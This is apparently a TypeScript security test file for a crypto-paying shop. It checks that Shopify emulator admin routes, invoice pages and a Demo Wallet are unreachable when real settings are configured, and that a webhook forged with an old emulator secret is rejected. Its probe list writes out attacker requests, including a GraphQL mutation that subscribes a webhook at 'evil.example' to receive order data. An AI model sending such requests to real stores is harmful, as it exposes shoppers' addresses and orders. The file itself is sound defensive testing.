/**
 * A stranger probing a shop for its demo surfaces (the Shopify emulator with its Admin API,
 * invoice pages and /__emulator controls, and the Demo Wallet): with real settings they do not
 * exist, even when main.ts (or a mistake) hands them to createApp. Only the full local demo has them.
 */
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DEMO_WALLET_ACCOUNT } from './chain/local-chain';
import { demoWalletRoutes } from './chain/demo-wallet';
import { signWebhookBody } from '../emulators/shopify';
import { startHarness, type Harness } from './test/harness';
import { useTestChain } from './test/use-test-chain';

const testChain = useTestChain();

// The built client, as a real start serves it: its index.html must not answer for a demo path.
const staticDir = fs.mkdtempSync(path.join(os.tmpdir(), 'pogs-dist-'));
fs.writeFileSync(path.join(staticDir, 'index.html'), '<!doctype html><title>POGS Shop</title><div id="root"></div>');
afterAll(() => fs.rmSync(staticDir, { recursive: true, force: true }));

/** What a stranger tries, in the order of the attack: find orders, take them over, forge their progress. */
const probes: Array<{ what: string; method: string; path: string; body?: unknown }> = [
  { what: 'list every draft order with its invoice link', method: 'GET', path: '/shopify-emulator/__emulator/draft-orders' },
  {
    what: "complete a victim's shipping form with their own address",
    method: 'POST',
    path: '/shopify-emulator/__emulator/draft-orders/1/complete',
    body: { shippingAddress: { address1: 'Stranger St 1' } },
  },
  { what: 'mark an order shipped', method: 'POST', path: '/shopify-emulator/__emulator/orders/1/fulfill', body: {} },
  { what: 'read the webhook deliveries (shoppers addresses)', method: 'GET', path: '/shopify-emulator/__emulator/webhooks' },
  { what: 'reset the emulator', method: 'POST', path: '/shopify-emulator/__emulator/reset', body: {} },
  {
    what: 'subscribe their own webhook URL with the old constant token',
    method: 'POST',
    path: '/shopify-emulator/admin/api/2026-07/graphql.json',
    body: {
      query:
        'mutation { webhookSubscriptionCreate(topic: ORDERS_CREATE, webhookSubscription: { uri: "https://evil.example/hook" }) { webhookSubscription { id } } }',
    },
  },
  { what: 'open an invoice page', method: 'GET', path: '/shopify-emulator/548380009/invoices/0123456789abcdef0123456789abcdef' },
  { what: 'fetch a demo product image', method: 'GET', path: '/shopify-emulator/cdn/images/classic-hoodie-1.svg' },
  {
    what: 'use the Demo Wallet',
    method: 'POST',
    path: '/api/dev/wallet',
    body: { jsonrpc: '2.0', id: 1, method: 'eth_accounts', params: [] },
  },
];

function probe(h: Harness, p: (typeof probes)[number]) {
  return h.api(p.path, {
    method: p.method,
    headers: {
      'content-type': 'application/json',
      accept: 'text/html,application/json;q=0.9,*/*;q=0.8',
      'x-shopify-access-token': 'shpat_local_emulator_token',
    },
    body: p.body === undefined ? undefined : JSON.stringify(p.body),
  });
}

describe('with a real chain and store configured', () => {
  let h: Harness;

  beforeAll(async () => {
    h = await startHarness('pglite', {
      chain: testChain.chain,
      env: {
        BASE_RPC_URL: testChain.chain.rpcUrl,
        POG_TOKEN_ADDRESS: '0x1111111111111111111111111111111111111111',
        STORE_WALLET_ADDRESS: '0x2222222222222222222222222222222222222222',
        SHOPIFY_STORE_DOMAIN: 'pogs-store.myshopify.com',
        SHOPIFY_ADMIN_TOKEN: 'shpat_0123456789abcdef',
        SHOPIFY_CLIENT_SECRET: 'integration-test-secret',
      },
      // Offered anyway, as a wiring mistake would: createApp must refuse them.
      mountEmulator: true,
      staticDir,
      demoWallet: demoWalletRoutes({ rpcUrl: testChain.chain.rpcUrl, account: DEMO_WALLET_ACCOUNT }),
    });
    expect(h.config.mode).toBe('live');
  });
  afterAll(async () => {
    await h?.close();
  });

  it('offers no Demo Wallet', async () => {
    const config = await (await h.api('/api/config')).json();
    expect(config).toMatchObject({ demoWallet: false, mode: 'live' });
  });

  it.each(probes)('cannot $what ($method $path): 404', async (p) => {
    const res = await probe(h, p);
    expect(res.status).toBe(404);
    expect(await res.json()).toMatchObject({ code: 'not-found' });
  });

  it('cannot forge a webhook with the emulator secret of old', async () => {
    const body = JSON.stringify({ id: 1, admin_graphql_api_id: 'gid://shopify/Order/1' });
    const res = await h.api('/api/webhooks/shopify', {
      method: 'POST',
      headers: {
        'content-type': 'application/json',
        'x-shopify-topic': 'orders/fulfilled',
        'x-shopify-webhook-id': 'forged-1',
        'x-shopify-hmac-sha256': signWebhookBody(body, 'local-emulator-client-secret'),
      },
      body,
    });
    expect(res.status).toBe(401);
  });
});

describe('in the full local demo (nothing real configured)', () => {
  let h: Harness;

  beforeAll(async () => {
    h = await startHarness('pglite', {
      mountEmulator: true,
      staticDir,
      demoWallet: demoWalletRoutes({ rpcUrl: testChain.chain.rpcUrl, account: DEMO_WALLET_ACCOUNT }),
    });
    expect(h.config.mode).toBe('local');
  });
  afterAll(async () => {
    await h?.close();
  });

  it('has the emulator and the Demo Wallet (so the probes above are not vacuous)', async () => {
    expect(await (await h.api('/api/config')).json()).toMatchObject({ demoWallet: true, mode: 'local' });
    const drafts = probes.find((p) => p.path.endsWith('/draft-orders'))!;
    expect((await probe(h, drafts)).status).toBe(200);
    const wallet = probes.find((p) => p.path === '/api/dev/wallet')!;
    expect(await (await probe(h, wallet)).json()).toMatchObject({ result: [DEMO_WALLET_ACCOUNT] });
    const image = probes.find((p) => p.path.includes('/cdn/images/'))!;
    expect((await probe(h, image)).status).toBe(200);
    // A path the emulator does not know is not the shop's index page either.
    const unknown = await h.api('/shopify-emulator/no/such/page', { headers: { accept: 'text/html' } });
    expect(unknown.status).toBe(404);
    expect(await unknown.json()).toMatchObject({ code: 'not-found' });
  });
});
